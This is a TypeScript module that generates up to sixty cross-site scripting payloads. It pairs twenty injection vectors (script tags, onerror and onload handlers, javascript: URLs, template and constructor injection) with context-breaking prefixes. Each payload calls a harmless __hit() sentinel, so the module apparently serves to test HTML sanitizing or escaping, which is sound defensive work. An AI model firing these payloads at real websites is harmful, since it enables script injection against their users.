/** What a payload calls when it runs. */
export const HIT = '__hit()';

const VECTORS = [
  `<script>${HIT}</script>`,
  `<ScRiPt >${HIT}</sCrIpT>`,
  `<img src=x onerror=${HIT}>`,
  `<svg onload=${HIT}>`,
  `<svg/onload=${HIT}//`,
  `<body onload=${HIT}>`,
  `<iframe src=javascript:parent.${HIT}>`,
  `<details open ontoggle=${HIT}>`,
  `<input autofocus onfocus=${HIT}>`,
  `<video><source onerror=${HIT}>`,
  `<audio src=x onerror=${HIT}>`,
  `<marquee onstart=${HIT}>`,
  `<math><mi xlink:href=javascript:${HIT}>`,
  `<style>@import'javascript:${HIT}'</style>`,
  `<a href=javascript:${HIT}>a</a>`,
  `<object data=javascript:${HIT}>`,
  `<p style=animation-name:x onanimationstart=${HIT}>`,
  `{{constructor.constructor('${HIT}')()}}`,
  `\${${HIT}}`,
  `javascript:${HIT}`,
];
const BREAKS = ['', '">', `'>`, '</title>', '--></td>', ']]>'];

/** Sixty ways to run a script where text is expected, each at most 60 characters long. */
export const XSS: readonly string[] = VECTORS.flatMap((vector) => BREAKS.map((way) => way + vector))
  .filter((payload) => payload.length <= 60)
  .filter((_, i) => i % 2 === 0 || i < 8)
  .slice(0, 60);
